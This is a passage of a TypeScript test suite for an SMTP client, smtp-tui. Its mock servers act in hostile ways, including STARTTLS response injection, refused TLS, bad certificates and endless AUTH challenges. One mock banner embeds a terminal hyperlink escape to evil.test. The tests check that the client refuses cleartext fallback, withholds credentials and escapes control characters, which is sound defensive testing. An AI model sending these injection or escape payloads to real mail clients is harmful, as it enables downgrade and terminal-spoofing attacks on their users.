			ehlo: '250-mx.test\r\n250 STARTTLS\r\n',
			onLine: (line, socket) => line === 'STARTTLS' && socket.write('454 4.7.0 not now\r\n250 early\r\n'),
		}), port => base(port, '--tls', 'auto', '--quit-after', 'mail'));
		assertSane(result);
		assert.equal(result.code, 0, result.stdout);
		assert.match(result.stdout, /^<- {2}454 4\.7\.0 not now$/m);
		assert.match(result.stdout, /^<- {2}250 early\n {4}! The server sent this before it was asked/m);
		assert.ok(!result.stdout.includes('Discarded'), result.stdout);
	});

	for (const [how, inject] of injections.slice(0, 2)) {
		test(`probe: STARTTLS answered "220 go" then "250 injected" ${how}, then real TLS: the row, the diagnosis and --json say so`, async () => {
			const text = await against(injectingStartTls(inject, []), port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2']);
			assertSane(text);
			assert.match(text.stdout, /^ {6}TLS: STARTTLS offered and working \(TLSv1\.[23]\), but 14 bytes came before TLS \(injection, see below\)/m);
			assert.match(text.stdout, /^ {6}STARTTLS injection: Discarded 14 bytes the server sent after its 220 and before TLS began: "250 injected\\x0d\\x0a"\. A correct server sends nothing there; this is the STARTTLS response-injection pattern\.$/m);
			assert.match(text.stdout, /^ {2}- Port 25 sent 14 bytes after its 220 to STARTTLS and before TLS began: the STARTTLS response-injection pattern/m);

			const json = await against(injectingStartTls(inject, []), port => ['probe', '127.0.0.1', '--ports', `25=${port}`, '--timeout', '2', '--json']);
			assertSane(json);
			const report = JSON.parse(json.stdout) as {rows: Array<{tls: string; starttlsInjection?: {bytes: number; note: string}}>; diagnosis: string[]};
			const [row] = report.rows;
			assert.equal(row?.tls, 'starttls');
			assert.equal(row?.starttlsInjection?.bytes, 14, json.stdout);
			assert.match(row?.starttlsInjection?.note ?? '', /^Discarded 14 bytes the server sent after its 220 and before TLS began: "250 injected\r\n"/, 'as received (JSON escapes it)');
			assert.ok(report.diagnosis.some(sentence => sentence.startsWith('Port 25 sent 14 bytes after its 220 to STARTTLS')), report.diagnosis.join('\n'));
		});
	}

	test('STARTTLS refused where TLS is required: no fallback to cleartext, no credentials sent (exit 29)', async () => {
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250-AUTH PLAIN LOGIN\r\n250 STARTTLS\r\n',
			onLine: (line, socket) => line === 'STARTTLS' && socket.write('454 4.7.0 TLS not available due to local problem\r\n'),
		}), port => base(port, '--tls', 'starttls', '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 29);
		assertSentence(result, /^STARTTLS was refused with 454; smtp-tui will not fall back to cleartext\.$/);
		assert.deepEqual(result.received.slice(1), ['STARTTLS', 'QUIT'], 'after EHLO only STARTTLS and QUIT');
		noAuthSent(result.received);
	});

	test('STARTTLS not offered where TLS is required: stops before AUTH or MAIL (exit 29)', async () => {
		const result = await against(smtp({ehlo: '250-mx.test\r\n250 AUTH PLAIN LOGIN\r\n'}), port => base(port, '--tls', 'starttls', '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 29);
		assertSentence(result, /^TLS is required \(--tls starttls\) but the server does not offer STARTTLS; smtp-tui will not continue in cleartext\.$/);
		assert.equal(result.received.length, 2, result.received.join(' | '));
		noAuthSent(result.received);
	});

	test('AUTH offered in cleartext: refused without --insecure-auth (exit 28)', async () => {
		const result = await against(smtp({ehlo: '250-mx.test\r\n250 AUTH PLAIN LOGIN\r\n'}), port => base(port, '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 28);
		assertSentence(result, /^Refusing to send credentials over a connection without TLS; pass --insecure-auth to do it anyway\.$/);
		noAuthSent(result.received);
	});

	test('--insecure-auth sends AUTH in cleartext only with a visible warning', async () => {
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250 AUTH PLAIN LOGIN\r\n',
			onLine: (line, socket) => line.startsWith('AUTH ') && socket.write('235 2.7.0 ok\r\n'),
		}), port => base(port, '--user', 'alice', '--password-env', 'HOSTILE_PW', '--insecure-auth', '--quit-after', 'auth'));
		assertSane(result);
		assert.equal(result.code, 0);
		const warning = result.stdout.split('\n').findIndex(line => /^\*\*\* Warning: logging in without TLS because of --insecure-auth; the password travels readable/.test(line));
		const auth = result.stdout.split('\n').findIndex(line => line.startsWith(' -> AUTH PLAIN'));
		assert.ok(warning >= 0 && warning < auth, `the warning comes before the AUTH line:\n${result.stdout}`);
		assert.ok(result.received.includes(`AUTH PLAIN ${Buffer.from(`\0alice\0${password}`).toString('base64')}`), 'the opted-in AUTH went out');
		assert.ok(!result.stdout.includes(password));
	});

	test('a TLS handshake answered with garbage after STARTTLS 220: exit 29, nothing more sent', async () => {
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250-AUTH PLAIN\r\n250 STARTTLS\r\n',
			onLine: async (line, socket, reader) => {
				if (line !== 'STARTTLS') return false;
				reader.detach();
				socket.write('220 go ahead\r\n');
				await sleep(30);
				socket.write('HTTP/1.0 200 OK \u001B[2J this is not TLS at all\r\n\r\n');
				return true;
			},
		}), port => base(port, '--tls', 'starttls', '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 29);
		assertSentence(result, /^The TLS handshake with 127\.0\.0\.1:\d+ failed: the server did not answer in TLS/);
		noAuthSent(result.received);
	});

	test('implicit TLS answered with garbage: exit 29 and a sentence, not an OpenSSL dump', async () => {
		const result = await against(socket => {
			socket.write(Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05]), Buffer.from('garbage \u001B[2J more garbage\r\n')]));
		}, port => base(port, '--tls', 'implicit'));
		assertSane(result);
		assert.equal(result.code, 29);
		assertSentence(result, /^The TLS handshake with 127\.0\.0\.1:\d+ failed: /);
		const sentence = errors(result).join('\n');
		assert.ok(!/ssl\/statem|\.c:\d+|0A0000/.test(sentence), `no OpenSSL internals: ${sentence}`);
	});

	test('a certificate for another host: refused with the names it covers (exit 29)', async () => {
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250-AUTH PLAIN\r\n250 STARTTLS\r\n',
			onLine: async (line, socket, reader) => {
				if (line !== 'STARTTLS') return false;
				socket.write('220 go ahead\r\n');
				await upgradeServer(socket, reader, wrongHost, []).catch(() => undefined);
				return true;
			},
		}), port => base(port, '--tls', 'starttls', '--ca', wrongCaFile, '--user', 'alice', '--password-env', 'HOSTILE_PW'));
		assertSane(result);
		assert.equal(result.code, 29);
		assertSentence(result, /^The certificate of 127\.0\.0\.1:\d+ was refused: it does not name 127\.0\.0\.1; it covers DNS:other\.example\. Use --servername NAME/);
		noAuthSent(result.received);
	});

	test('an HTTP server on the port: it waits for a request, so no banner (exit 6)', async () => {
		const server = http.createServer((_request, response) => response.end('hello'));
		await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
		try {
			const {port} = server.address() as net.AddressInfo;
			const result = await runCli(base(port));
			assertSane(result);
			assert.equal(result.code, 6);
			assertSentence(result, /did not answer with a banner within 2 s\.$/);
		} finally {
			server.closeAllConnections();
			server.close();
		}
	});

	test('an HTTP server that speaks first: "does not seem to speak SMTP" (exit 21)', async () => {
		const result = await against(socket => {
			socket.end('HTTP/1.1 400 Bad Request\r\nContent-Type: text/html\r\n\r\n<h1>\u001B[2J</h1>');
		}, port => base(port));
		assertSane(result);
		assert.equal(result.code, 21);
		assertSentence(result, /^The server sent a line that is not an SMTP reply .*: "HTTP\/1\.1 400 Bad Request"\. This port does not seem to speak SMTP\.$/);
	});

	test('a server that replies before the command is sent: flagged, escapes shown', async () => {
		const result = await against(smtp({banner: '220 mx.test\r\n250 early \u001B]8;;http://evil.test\u0007link\u001B]8;;\u0007\r\n'}), port => base(port, '--quit-after', 'ehlo'));
		assertSane(result);
		assert.equal(result.code, 0);
		assert.match(result.stdout, /^<- {2}250 early \\x1b\]8;;http:\/\/evil\.test\\x07link\\x1b\]8;;\\x07\n {4}! The server sent this before it was asked/m);
	});

	test('AUTH 334 challenges that never end: cancelled after 10 (exit 28)', async () => {
		let challenges = 0;
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250 AUTH LOGIN\r\n',
			onLine(line, socket) {
				if (line === '*') socket.write('501 5.7.0 cancelled\r\n');
				else if (line === 'QUIT' || line.startsWith('EHLO')) return false;
				else {
					challenges++;
					socket.write(`334 ${Buffer.from('Password:').toString('base64')}\r\n`);
				}

				return true;
			},
		}), port => base(port, '--user', 'alice', '--password-env', 'HOSTILE_PW', '--insecure-auth'));
		assertSane(result);
		assert.equal(result.code, 28);
		assertSentence(result, /^The server sent more than 10 AUTH challenges; smtp-tui cancelled the exchange\.$/);
		assert.ok(challenges <= 12, `${challenges} challenges answered`);
		assert.ok(result.received.includes('*'), 'the exchange was cancelled with *');
		assert.equal(result.received.at(-1), 'QUIT');
	});

	test('a server that answers even the AUTH cancel and QUIT with 334: QUIT is shown as a command, not as a SASL response', async () => {
		let inAuth = false;
		const result = await against(smtp({
			ehlo: '250-mx.test\r\n250 AUTH PLAIN\r\n',
			onLine(line, socket) {
				if (line.startsWith('AUTH')) inAuth = true;
				if (!inAuth) return false;
				socket.write(`334 ${Buffer.from('Username:').toString('base64')}\r\n`);
				if (line === 'QUIT') socket.end();
				return true;
			},
		}), port => base(port, '--user', 'alice', '--password-env', 'HOSTILE_PW', '--insecure-auth', '--auth', 'PLAIN'));
		assertSane(result);
		assert.equal(result.code, 28);
		assertSentence(result, /^The server sent more than 10 AUTH challenges; smtp-tui cancelled the exchange\.$/);
		assert.equal(result.received.at(-1), 'QUIT');
		assert.match(result.stdout, /^ -> QUIT$/m, result.stdout);
		assert.ok(!result.stdout.includes(Buffer.from(`\0alice\0${password}`).toString('base64')), 'the PLAIN response stays masked');
	});

	test('a 5xx reply to QUIT: exit 27 and a sentence', async () => {
		const result = await against(smtp({
			onLine(line, socket) {
				if (line !== 'QUIT') return false;
				socket.end('554 5.0.0 you may never leave\r\n');
				return true;
			},
		}), port => base(port));
		assertSane(result);
		assert.equal(result.code, 27);
		assertSentence(result, /^QUIT was answered with 554\.$/);
		assert.match(result.stdout, /250 2\.0\.0 queued/, 'the message itself went through');
	});
});
